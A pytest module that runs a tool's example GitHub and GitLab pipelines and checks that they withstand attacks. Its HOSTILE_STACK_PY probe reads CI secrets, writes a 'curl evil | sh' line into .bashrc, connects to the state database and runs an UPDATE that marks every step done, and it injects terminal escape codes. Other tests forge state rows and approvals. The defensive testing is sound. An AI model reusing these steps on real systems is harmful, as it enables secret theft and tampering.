"""The pipeline examples (examples/: .github/workflows, .gitlab-ci.yml, ci/mgc-iac) are valid, run, and are safe
to copy (issue 19).

The workflow files are validated with check-jsonschema against SchemaStore's schemas (shipped inside the
package, no network). Then the jobs' own `run:`/`script:` commands are run, in the order the pipelines would
run them, in a real git repository (branch, plan, merge, apply, approvals pull request, merge, apply, scheduled
apply) against the lab and a real PostgreSQL state whose roles are made by examples/ci/mgc-iac/state-roles.sql,
with the variables each job's YAML gives it and CI=true, as both platforms set. Approvals are signed with real
SSH keys by ci/mgc-iac/approve.sh.

Not run: what needs the platform itself: checkout and setup-python (`uses:` steps: the test made the repository
and has mgc-iac installed), the pinned install (its refusals are tested), posting the comment and downloading
the reviewed plan through the GitHub/GitLab API (the test hands the apply job the plan job's artifact, as the
download step would; the comment body is checked instead).

Then the attacks of issue 19, each through the jobs as copied: a pull request whose stack.py reads the job's
secrets, writes files, reaches the network and the state; a fork's pull request without the state variables;
state rows forged to say gates passed; a change that adds its author's keys to allowed_signers and approves
itself; a change that relaxes the policy and approves unsigned.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

from .helpers import Demo

REPO = Path(__file__).resolve().parent.parent.parent
EXAMPLES = REPO / "examples"
GITHUB = sorted((EXAMPLES / ".github" / "workflows").glob("*.yml"))
GITLAB = EXAMPLES / ".gitlab-ci.yml"
CHECK = Path(sys.executable).parent / "check-jsonschema"
SKIPPED_STEPS = ("install", "comment", "reviewed")  # the platform's API and the pinned install (module doc)


def test_the_workflow_files_validate_against_schemastore(tmp_path):
    assert len(GITHUB) == 4
    ok = subprocess.run([str(CHECK), "--builtin-schema", "vendor.github-workflows", *map(str, GITHUB)],
                        capture_output=True, text=True)
    assert ok.returncode == 0, ok.stdout + ok.stderr
    ok = subprocess.run([str(CHECK), "--builtin-schema", "vendor.gitlab-ci", str(GITLAB)], capture_output=True,
                        text=True)
    assert ok.returncode == 0, ok.stdout + ok.stderr
    broken = tmp_path / "broken.yml"  # the check does reject a wrong file (a job without runs-on or steps)
    broken.write_text("name: x\non: push\njobs:\n  plan:\n    step: []\n")
    bad = subprocess.run([str(CHECK), "--builtin-schema", "vendor.github-workflows", str(broken)],
                         capture_output=True, text=True)
    assert bad.returncode == 1


def _github_job_env(flow: dict[str, Any], job: str) -> dict[str, str]:
    spec = flow["jobs"][job]
    env = {**flow.get("env", {}), **spec.get("env", {})}
    for step in spec["steps"]:
        env.update(step.get("env", {}))
    return {k: str(v) for k, v in env.items()}


def test_the_pipelines_give_each_job_only_what_it_needs():
    flows = {p.stem: yaml.safe_load(p.read_text()) for p in GITHUB}
    on = {name: flow[True] for name, flow in flows.items()}  # YAML 1.1 reads the key `on` as True
    assert "pull_request" in on["mgc-iac-plan"] and on["mgc-iac-apply"]["push"]["branches"] == ["main"]
    assert on["mgc-iac-scheduled"]["schedule"][0]["cron"] == "*/15 * * * *"
    assert flows["mgc-iac-plan"]["permissions"]["pull-requests"] == "write"
    assert flows["mgc-iac-apply"]["jobs"]["apply"]["environment"] == "production"
    for name in ("mgc-iac-apply", "mgc-iac-scheduled"):
        assert flows[name]["concurrency"] == {"group": "mgc-iac-apply", "cancel-in-progress": False}
    # jobs that run a pull request's code, or only read: the read-only state role, no cloud write keys
    for flow, job in (("mgc-iac-plan", "plan"), ("mgc-iac-approvals", "check"), ("mgc-iac-scheduled", "drift")):
        env = _github_job_env(flows[flow], job)
        assert env["MGC_IAC_STATE"] == "${{ vars.MGC_IAC_PLAN_STATE_URL }}", (flow, env)
        assert env["PGPASSWORD"] == "${{ secrets.MGC_IAC_PLAN_PGPASSWORD }}"
        given = json.dumps(env)
        assert "secrets.HUAWEICLOUD_SDK_SK" not in given and "secrets.MGC_IAC_PGPASSWORD" not in given
    # secrets reach only the step that runs mgc-iac: never a workflow's or a job's env, so never the checkout, the
    # install (pip runs a build backend) or the download of the reviewed plan
    for name, flow in flows.items():
        assert "secrets." not in json.dumps(flow.get("env", {})), name
        for job in flow["jobs"].values():
            assert "secrets." not in json.dumps(job.get("env", {})), name
            for step in job["steps"]:
                if "uses" in step or step.get("id") in ("install", "reviewed"):
                    assert "secrets." not in json.dumps(step.get("env", {})), (name, step)
    # the plan job's token is in the comment step alone, after the pull request's code ran
    plan_steps = flows["mgc-iac-plan"]["jobs"]["plan"]["steps"]
    assert [s.get("id") for s in plan_steps if "GH_TOKEN" in s.get("env", {})] == ["comment"]
    # writers: the state's write role; the scheduled jobs need no human (no environment with reviewers)
    for flow, job in (("mgc-iac-apply", "apply"), ("mgc-iac-scheduled", "apply")):
        assert _github_job_env(flows[flow], job)["MGC_IAC_STATE"] == "${{ vars.MGC_IAC_STATE_URL }}"
    assert flows["mgc-iac-scheduled"]["jobs"]["apply"]["environment"] != "production"
    assert "environment" not in flows["mgc-iac-scheduled"]["jobs"]["drift"]
    # apply runs the reviewed plan; the scheduled job only continues what was applied
    apply_runs = " ".join(s.get("run", "") for s in flows["mgc-iac-apply"]["jobs"]["apply"]["steps"])
    assert "reviewed-plan-github.sh reviewed" in apply_runs
    assert 'apply.sh "$STACK" 20m reviewed/plan.json' in apply_runs
    scheduled_runs = " ".join(s.get("run", "") for s in flows["mgc-iac-scheduled"]["jobs"]["apply"]["steps"])
    assert "--continue-only" in scheduled_runs
    for flow in flows.values():  # installs are pinned; checkouts leave no token in .git/config
        for job in flow["jobs"].values():
            for step in job["steps"]:
                assert "pip install" not in step.get("run", "")
                if step.get("id") == "install":
                    assert step["run"] == "ci/mgc-iac/install.sh ./vendor/mgc-iac"
                if step.get("uses", "").startswith("actions/checkout"):
                    assert step["with"]["persist-credentials"] is False
    lab = yaml.safe_load(GITLAB.read_text())
    assert lab["apply"]["environment"]["name"] == "production" and lab["apply"]["resource_group"] == "mgc-iac-apply"
    assert lab["scheduled-apply"]["rules"] == [{"if": '$CI_PIPELINE_SOURCE == "schedule"'}]
    assert "environment" not in lab["scheduled-apply"] and "--continue-only" in lab["scheduled-apply"]["script"][0]
    for job in ("plan", "approvals", "drift-check"):
        assert lab[job]["extends"] == ".read-only-state"
    for job in ("apply", "scheduled-apply"):
        assert lab[job]["extends"] == ".write-state"
    assert lab[".read-only-state"]["variables"] == {"MGC_IAC_STATE": "$MGC_IAC_PLAN_STATE_URL",
                                                    "PGPASSWORD": "$MGC_IAC_PLAN_PGPASSWORD"}
    assert "pip install" not in GITLAB.read_text() and "install.sh ./vendor/mgc-iac" in GITLAB.read_text()


@pytest.mark.parametrize("source", ["mgc-iac", "mgc-iac==1.0", "git+https://example.com/x/mgc-iac@main",
                                    "git+https://example.com/x/mgc-iac@v1.2", "./no-such-dir"])
def test_the_install_refuses_an_index_name_or_a_moving_ref(tmp_path, source):
    done = subprocess.run(["bash", str(EXAMPLES / "ci" / "mgc-iac" / "install.sh"), source], cwd=tmp_path,
                          capture_output=True, text=True, timeout=60)
    assert done.returncode == 1 and "install.sh:" in done.stderr, done.stdout + done.stderr


class Pipelines:
    """Runs the jobs' commands of one CI system in the repository, with the variables a project would set."""

    def __init__(self, kind: str, repo: Path, env: dict[str, str], settings: dict[str, str]) -> None:
        self.kind, self.repo, self.env, self.settings = kind, repo, env, settings

    def _expr(self, text: str) -> str:
        def sub(match: re.Match[str]) -> str:
            key = match.group(1).strip()
            if key not in self.settings:
                raise AssertionError(f"the test does not know the expression ${{{{ {key} }}}}")
            return self.settings[key]

        return re.sub(r"\$\{\{(.*?)\}\}", sub, text)

    def job(self, workflow: str, job: str) -> tuple[dict[str, str], list[str]]:
        if self.kind == "github":
            flow = yaml.safe_load((self.repo / ".github" / "workflows" / f"{workflow}.yml").read_text())
            spec = flow["jobs"][job]
            env = {k: self._expr(str(v)) for k, v in {**flow.get("env", {}), **spec.get("env", {})}.items()}
            scripts = []
            for step in spec["steps"]:
                if "uses" in step or step.get("id") in SKIPPED_STEPS:
                    continue
                env.update({k: self._expr(str(v)) for k, v in step.get("env", {}).items()})
                scripts.append(self._expr(step["run"]))
            return {**env, "CI": "true", "GITHUB_ACTIONS": "true"}, scripts
        pipeline = yaml.safe_load((self.repo / ".gitlab-ci.yml").read_text())
        spec = pipeline[job]
        raw = {**pipeline["variables"], **pipeline.get(spec.get("extends", ""), {}).get("variables", {}),
               **spec.get("variables", {})}
        variables = {**self.settings, **{k: re.sub(r"\$(\w+)", lambda m: self.settings.get(m.group(1), ""), str(v))
                                         for k, v in raw.items()}}
        scripts = [line for line in spec["script"] if "gitlab-note.sh" not in line and "reviewed-plan" not in line]
        return {**variables, "CI": "true", "GITLAB_CI": "true"}, scripts

    def run(self, workflow: str, job: str, *, expect: int = 0, **overrides: str) -> str:
        env, scripts = self.job(workflow, job)
        out = []
        for script in scripts:
            done = subprocess.run(["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", script],
                                  cwd=self.repo, env={**self.env, **env, **overrides}, capture_output=True, text=True,
                                  timeout=300)
            out.append(done.stdout + done.stderr)
            if done.returncode != 0:
                assert done.returncode == expect, f"{workflow}/{job}: {script}\n{out[-1]}"
                return "\n".join(out)
        assert expect == 0, f"{workflow}/{job} passed, expected exit {expect}:\n" + "\n".join(out)
        return "\n".join(out)


def _git(repo: Path, *args: str) -> str:
    done = subprocess.run(["git", "-C", str(repo), *args], capture_output=True, text=True, check=True)
    return done.stdout


def _keygen(directory: Path, name: str) -> Path:
    key = directory / f"{name}_ed25519"
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", name, "-f", str(key)], check=True)
    return key


def _signer(principal: str, key: Path) -> str:
    return f"{principal} {' '.join(key.with_suffix('.pub').read_text().split()[:2])}\n"


def _pull_request_adding_the_stack(repo: Path, demo_stack: Path, keys: dict[str, Path], *,
                                   required_approvers: int) -> Path:
    """A branch `migrate-shop` that adds stacks/prod (the demo, signed approvals by alice and bob), committed."""
    _git(repo, "checkout", "-qb", "migrate-shop")
    stack = repo / "stacks" / "prod"
    shutil.copytree(demo_stack, stack)
    (stack / "allowed_signers").write_text(_signer("alice@example.com", keys["alice"])
                                           + _signer("bob@example.com", keys["bob"]))
    data = yaml.safe_load((stack / "stack.yaml").read_text())
    data["approvals"] = {"required_approvers": required_approvers, "allowed_signers": "allowed_signers"}
    (stack / "stack.yaml").write_text(yaml.safe_dump(data, sort_keys=False))
    _git(repo, "add", "-A")
    _git(repo, "commit", "-qm", "migrate the shop")
    return stack


class Roles:
    """The state database's roles as examples/ci/mgc-iac/state-roles.sql makes them (run by the DBA, once)."""

    def __init__(self, pg_server: Any, pg_url: str) -> None:
        import psycopg

        database = pg_url.rsplit("/", 1)[1]
        with psycopg.connect(pg_url, password=pg_server.password, autocommit=True) as conn:
            sql = (EXAMPLES / "ci" / "mgc-iac" / "state-roles.sql").read_text()
            if conn.execute("SELECT 1 FROM pg_roles WHERE rolname = 'mgc_iac_plan'").fetchone():
                # roles belong to the server: an earlier test's database made them (a DBA runs it once too)
                sql = sql.replace("CREATE ROLE mgc_iac_apply LOGIN;", "").replace("CREATE ROLE mgc_iac_plan LOGIN;", "")
            conn.execute(sql)
            conn.execute("ALTER ROLE mgc_iac_apply PASSWORD 'apply-secret-pw'")
            conn.execute("ALTER ROLE mgc_iac_plan PASSWORD 'plan-secret-pw'")
        self.apply_url = f"postgresql://mgc_iac_apply@127.0.0.1:{pg_server.port}/{database}"
        self.plan_url = f"postgresql://mgc_iac_plan@127.0.0.1:{pg_server.port}/{database}"

    def writer(self):  # -> StateStore, as the apply jobs open it
        from mgc_iac.state import open_store

        os.environ["PGPASSWORD"] = "apply-secret-pw"
        return open_store(self.apply_url)


def _settings(roles: Roles) -> dict[str, str]:
    return {"vars.MGC_IAC_STATE_URL": roles.apply_url, "secrets.MGC_IAC_PGPASSWORD": "apply-secret-pw",
            "vars.MGC_IAC_PLAN_STATE_URL": roles.plan_url, "secrets.MGC_IAC_PLAN_PGPASSWORD": "plan-secret-pw",
            "secrets.HUAWEICLOUD_SDK_AK": "", "secrets.HUAWEICLOUD_SDK_SK": "", "secrets.HUAWEICLOUD_READONLY_AK": "",
            "secrets.HUAWEICLOUD_READONLY_SK": "", "vars.HUAWEICLOUD_SDK_PROJECT_ID": "",
            "github.token": "ghs_the-job-token", "github.event.pull_request.number": "1",
            "MGC_IAC_STATE_URL": roles.apply_url, "MGC_IAC_PGPASSWORD": "apply-secret-pw",
            "MGC_IAC_PLAN_STATE_URL": roles.plan_url, "MGC_IAC_PLAN_PGPASSWORD": "plan-secret-pw",
            "HUAWEICLOUD_READONLY_AK": "", "HUAWEICLOUD_READONLY_SK": ""}


def _repository(kind: str, tmp_path: Path) -> Path:
    repo = tmp_path / "repo"
    (repo / "ci").mkdir(parents=True)
    shutil.copytree(EXAMPLES / "ci" / "mgc-iac", repo / "ci" / "mgc-iac")  # as README says: copy examples/
    if kind == "github":
        shutil.copytree(EXAMPLES / ".github", repo / ".github")
    else:
        shutil.copy(GITLAB, repo / ".gitlab-ci.yml")
    (repo / "README.md").write_text("migrations\n")
    (repo / ".gitignore").write_text("mgc-iac-out/\nreviewed/\nmgc-iac-apply.log\n")  # a job's workspace files
    _git(tmp_path, "init", "-q", "-b", "main", str(repo))
    _git(repo, "config", "user.email", "ci@example.com")
    _git(repo, "config", "user.name", "CI")
    _git(repo, "add", "-A")
    _git(repo, "commit", "-qm", "pipelines")
    return repo


def _jobs(kind: str) -> dict[str, tuple[str, str]]:
    if kind == "github":
        return {"plan": ("mgc-iac-plan", "plan"), "apply": ("mgc-iac-apply", "apply"),
                "approvals": ("mgc-iac-approvals", "check"), "scheduled": ("mgc-iac-scheduled", "apply"),
                "drift": ("mgc-iac-scheduled", "drift")}
    return {"plan": ("", "plan"), "apply": ("", "apply"), "approvals": ("", "approvals"),
            "scheduled": ("", "scheduled-apply"), "drift": ("", "drift-check")}


def _merge(repo: Path, branch: str) -> None:
    _git(repo, "checkout", "-q", "main")
    _git(repo, "merge", "-q", "--no-ff", branch, "-m", f"merge {branch}")


def _keep_reviewed(repo: Path) -> None:
    """What the apply job's download step fetches: the merged pull request's plan artifact."""
    shutil.rmtree(repo / "reviewed", ignore_errors=True)
    shutil.copytree(repo / "mgc-iac-out", repo / "reviewed")
    shutil.rmtree(repo / "mgc-iac-out")


@pytest.mark.parametrize("kind", ["github", "gitlab"])
def test_the_examples_run_in_order_in_a_git_repository(kind, demo: Demo, pg_server, pg_url, tmp_path):
    repo = _repository(kind, tmp_path)
    roles = Roles(pg_server, pg_url)
    env = {**demo.env, "PGPASSWORD": ""}  # what the job's own env: block gives is what counts
    for name in ("MGC_IAC_STATE", "MGC_IAC_NEW_STATE"):
        env.pop(name, None)
    env["PATH"] = f"{Path(sys.executable).parent}:{env.get('PATH', '')}"
    ci = Pipelines(kind, repo, env, _settings(roles))
    jobs = _jobs(kind)
    keys = {name: _keygen(tmp_path, name) for name in ("alice", "bob")}
    # the approver's own machine: read-only state access, no CI
    approver = {**env, "MGC_IAC_STATE": roles.plan_url, "PGPASSWORD": "plan-secret-pw"}

    # a pull request adds the stack (signed approvals: alice and bob): plan, and the comment body the job posts
    stack = _pull_request_adding_the_stack(repo, demo.stack, keys, required_approvers=1)
    out = ci.run(*jobs["plan"])
    assert "changes present" in out
    comment = (repo / "mgc-iac-out" / "comment.md").read_text()
    assert comment.startswith("<!-- mgc-iac plan: demo -->") and len(comment) <= 65_536
    assert "| To create |" in comment and "<details>" in comment and "Approval required" in comment
    _keep_reviewed(repo)

    # merge, apply the reviewed plan in the production environment: stops at the first gates
    _merge(repo, "migrate-shop")
    out = ci.run(*jobs["apply"])
    assert "Applying the reviewed plan" in out and "waiting at manual gates" in out and "BusinessValidation" in out

    for gate in ("BusinessValidation", "Cutover"):
        # an approvals pull request, signed by alice on her machine, checked, planned, merged, applied
        branch = f"approve-{gate.lower()}"
        _git(repo, "checkout", "-qb", branch)
        approved = subprocess.run(["ci/mgc-iac/approve.sh", "stacks/prod", str(keys["alice"])], cwd=repo,
                                  env=approver, capture_output=True, text=True)
        assert approved.returncode == 0 and f"/{gate}" in approved.stdout, approved.stdout + approved.stderr
        assert "signature: |" in (stack / "approvals.yaml").read_text()
        _git(repo, "add", "-A")
        _git(repo, "commit", "-qm", f"approve {gate}")
        out = ci.run(*jobs["approvals"])
        assert f"passes at the next apply: shop-wave-1/web-01/{gate}" in out and "REFUSED" not in out, out
        ci.run(*jobs["plan"])  # the approvals pull request is planned too: its artifact is what apply reviews
        _keep_reviewed(repo)
        _merge(repo, branch)
        out = ci.run(*(jobs["apply"] if gate == "BusinessValidation" else jobs["scheduled"]))
        if gate == "BusinessValidation":
            assert "waiting at manual gates" in out and "Cutover" in out, out
        else:
            assert "apply complete" in out, out
    assert "approve-cutover" in _git(repo, "log", "--oneline", "-3")
    # the scheduled drift check: the cloud holds what was recorded, so it passes (it exits 2 on drift)
    ci.run(*jobs["drift"])
    _hostile_stack_py(ci, repo, jobs, roles, kind)
    _fork_without_variables(ci, repo, jobs)


HOSTILE_STACK_PY = '''
import os, pathlib, socket
seen = [f"{name}={os.environ.get(name)}" for name in ("PGPASSWORD", "MGC_IAC_STATE", "GH_TOKEN", "GITLAB_API_TOKEN")]
seen.append(f"home={pathlib.Path.home()}")  # a scratch tmpfs: what it writes there disappears with it
try:
    pathlib.Path(OUTER_HOME, ".bashrc").write_text("curl evil | sh")
    seen.append("wrote bashrc")
except OSError as exc:
    seen.append(f"no bashrc: {exc.strerror}")
try:
    socket.create_connection(("127.0.0.1", PORT), timeout=3).close()
    seen.append("reached the state database")
except OSError as exc:
    seen.append(f"no network: {exc.strerror}")
try:
    import psycopg
    psycopg.connect(URL, password="apply-secret-pw", connect_timeout=3).execute(
        "UPDATE mgc_iac.steps SET status = 'done'")
    seen.append("wrote the state")
except Exception as exc:
    seen.append("no state: " + type(exc).__name__)
'''


def _hostile_stack_py(ci: Pipelines, repo: Path, jobs: dict[str, tuple[str, str]], roles: Roles, kind: str) -> None:
    """A pull request turns the stack into a stack.py that tries what the issue's did (and knows the apply role's
    password, as an insider might): the plan job shows nothing secret and the state does not change."""
    from tests.stack.test_python_stack import DEMO_PY

    writer = roles.writer()
    before = writer.snapshot("demo")
    writer.close()
    _git(repo, "checkout", "-qb", "hostile")
    stack = repo / "stacks" / "prod"
    for yml in stack.glob("*.yaml"):
        if yml.name not in ("approvals.yaml", "lab-seed.yaml"):
            yml.unlink()
    port = roles.apply_url.split(":")[2].split("/")[0]
    outer_home = ci.env.get("HOME", "/root")
    probe = HOSTILE_STACK_PY.replace("PORT", port).replace("URL", repr(roles.apply_url)).replace(
        "OUTER_HOME", repr(outer_home))
    (stack / "stack.py").write_text(probe + DEMO_PY.replace(
        'description="Move the shop web and database servers to Huawei Cloud (embedded lab).")',
        'description="\\x1b]0;pwned\\x07\\x1b[2K seen: " + "; ".join(seen))'))
    _git(repo, "add", "-A")
    _git(repo, "commit", "-qm", "refactor the stack into Python")
    out = ci.run(*jobs["plan"])
    comment = (repo / "mgc-iac-out" / "comment.md").read_text()
    artifact = (repo / "mgc-iac-out" / "plan.json").read_text()
    shown = out + comment + (repo / "mgc-iac-out" / "plan.md").read_text() + artifact
    for secret in ("plan-secret-pw", "ghs_the-job-token"):  # the job's own secrets never reach the stack's code
        assert secret not in shown
    seen = json.loads(artifact)["spec"]["metadata"]["description"]  # what the stack could see, in the artifact
    assert "PGPASSWORD=None" in seen and "MGC_IAC_STATE=None" in seen and "GH_TOKEN=None" in seen, seen
    assert "no network" in seen and "no bashrc" in seen and "no state: OperationalError" in seen, seen
    assert "home=/tmp" in seen
    assert "\x1b" not in out + comment and "\x07" not in out + comment
    assert "pwned" in comment and "holds control characters" in comment  # the warning, escaped
    home = Path(ci.env.get("HOME", "/nonexistent")) / ".bashrc"
    assert not home.exists() or "curl evil" not in home.read_text()
    writer = roles.writer()
    after = writer.snapshot("demo")
    writer.close()
    assert after.serial == before.serial and after.steps == before.steps
    _git(repo, "checkout", "-q", "main")
    shutil.rmtree(repo / "mgc-iac-out", ignore_errors=True)


def _fork_without_variables(ci: Pipelines, repo: Path, jobs: dict[str, tuple[str, str]]) -> None:
    """A fork's pull request gets no secrets or variables: the plan stops with the fix, never plans from nothing."""
    _git(repo, "checkout", "-qb", "from-a-fork")
    data = yaml.safe_load((repo / "stacks" / "prod" / "stack.yaml").read_text())
    data["metadata"]["description"] = "a fork's change"
    (repo / "stacks" / "prod" / "stack.yaml").write_text(yaml.safe_dump(data, sort_keys=False))
    _git(repo, "commit", "-qam", "a fork's change")
    forked = Pipelines(ci.kind, repo, ci.env, {**ci.settings, "vars.MGC_IAC_PLAN_STATE_URL": "",
                                               "secrets.MGC_IAC_PLAN_PGPASSWORD": "", "MGC_IAC_PLAN_STATE_URL": "",
                                               "MGC_IAC_PLAN_PGPASSWORD": ""})
    out = forked.run(*jobs["plan"], expect=1)
    assert "MGC_IAC_STATE is set but empty" in out and "to create" not in out, out
    _git(repo, "checkout", "-q", "main")
    shutil.rmtree(repo / "mgc-iac-out", ignore_errors=True)


def test_attacks_on_the_gates_through_the_github_jobs(demo: Demo, pg_server, pg_url, tmp_path):
    """After the reviewed apply stopped at BusinessValidation: forged state rows, a change adding its author's keys
    and approving itself, a change relaxing the policy and approving unsigned. None opens a gate."""
    kind = "github"
    repo = _repository(kind, tmp_path)
    roles = Roles(pg_server, pg_url)
    env = {**demo.env, "PGPASSWORD": ""}
    for name in ("MGC_IAC_STATE", "MGC_IAC_NEW_STATE"):
        env.pop(name, None)
    env["PATH"] = f"{Path(sys.executable).parent}:{env.get('PATH', '')}"
    ci = Pipelines(kind, repo, env, _settings(roles))
    jobs = _jobs(kind)
    keys = {name: _keygen(tmp_path, name) for name in ("alice", "bob", "mallory1", "mallory2")}
    approver = {**env, "MGC_IAC_STATE": roles.plan_url, "PGPASSWORD": "plan-secret-pw"}
    stack = _pull_request_adding_the_stack(repo, demo.stack, keys, required_approvers=2)
    ci.run(*jobs["plan"])
    _keep_reviewed(repo)
    _merge(repo, "migrate-shop")
    out = ci.run(*jobs["apply"])
    assert "waiting at manual gates" in out
    digest = re.search(r"Waiting for approval of plan (sha256:[0-9a-f]{64})", out).group(1)

    # 1. state rows forged (by whoever got the write credential): BusinessValidation done, Cutover running
    from mgc_iac.state import StepRecord, StepStatus

    writer = roles.writer()
    kept = {g: r for g, r in writer.snapshot("demo").steps.items() if g.startswith("shop-wave-1/web-01/")}
    with writer.transaction("demo") as txn:
        txn.put_step(StepRecord("shop-wave-1", "web-01", "BusinessValidation", StepStatus.DONE, 1,
                                {"approved_by": ["cto@example.com"], "plan_digest": digest}))
        txn.put_step(StepRecord("shop-wave-1", "web-01", "Cutover", StepStatus.RUNNING, 1,
                                {"approved_by": ["cto@example.com"], "plan_digest": digest}))
    writer.close()
    out = ci.run(*jobs["scheduled"], expect=1)
    assert "no verified approval passes; nothing was run" in out and "cto@example.com" in out, out
    writer = roles.writer()
    assert not [e for e in writer.journal("demo") if e.address == "shop-wave-1/web-01/Cutover"]
    with writer.transaction("demo") as txn:  # the operator restores the rows (from the journal or a backup)
        txn.delete_steps("shop-wave-1", "web-01")
        for record in kept.values():
            txn.put_step(record)
    writer.close()

    # 2. a pull request adds mallory's two keys to allowed_signers and approves with both (signed offline)
    _git(repo, "checkout", "-qb", "more-signers")
    with (stack / "allowed_signers").open("a") as signers:
        signers.write(_signer("m1@example.com", keys["mallory1"]) + _signer("m2@example.com", keys["mallory2"]))
    store = roles.writer()
    environment = store.environment_id()
    store.close()
    for name in ("mallory1", "mallory2"):
        done = subprocess.run([sys.executable, "-m", "mgc_iac", "approve", "stacks/prod", "--gate",
                               "shop-wave-1/web-01/BusinessValidation", "--key", str(keys[name]), "--to-file",
                               "--digest", digest, "--environment", environment], cwd=repo, env=approver,
                              capture_output=True, text=True)
        assert done.returncode == 0, done.stderr
    _git(repo, "add", "-A")
    _git(repo, "commit", "-qm", "add two signers and approve")
    out = ci.run(*jobs["plan"])
    comment = (repo / "mgc-iac-out" / "comment.md").read_text()
    assert "Approval policy change" in comment and "signer added: m1@example.com" in comment, comment
    out = ci.run(*jobs["approvals"], expect=1)
    assert "REFUSED" in out and "not in the allowed signers recorded at the last apply" in out, out
    _keep_reviewed(repo)
    _merge(repo, "more-signers")  # merged anyway: a reviewer missed it
    out = ci.run(*jobs["apply"])
    assert "waiting at manual gates" in out and "_stack/approvals/PolicyChange" in out, out
    assert "shop-wave-1/web-01/BusinessValidation: needs 2 approval(s)" in out

    # 3. a pull request relaxes the policy and approves unsigned: not applied by the scheduled job, and the
    #    reviewed apply still checks the gates under the policy in force
    _git(repo, "checkout", "-qb", "relax")
    data = yaml.safe_load((stack / "stack.yaml").read_text())
    data["approvals"].update(require_signatures=False, required_approvers=1)
    (stack / "stack.yaml").write_text(yaml.safe_dump(data, sort_keys=False))
    (stack / "approvals.yaml").write_text(yaml.safe_dump({"approvals": [
        {"gates": ["shop-wave-1/web-01/BusinessValidation"], "by": "mallory", "plan_digest": digest}]}))
    _git(repo, "commit", "-qam", "relax the policy")
    ci.run(*jobs["plan"])
    assert "require\\_signatures: true -\\> false (widens)" in (repo / "mgc-iac-out" / "comment.md").read_text()
    _keep_reviewed(repo)
    _merge(repo, "relax")
    out = ci.run(*jobs["scheduled"], expect=1)
    assert "is not the one its last apply ran" in out and "--continue-only refuses it" in out, out
    out = ci.run(*jobs["apply"])
    assert "waiting at manual gates" in out and "is not signed" in out, out
    assert "shop-wave-1/web-01/BusinessValidation: needs 2 approval(s)" in out
    writer = roles.writer()
    assert writer.snapshot("demo").steps["shop-wave-1/web-01/BusinessValidation"].status is StepStatus.WAITING
    writer.close()
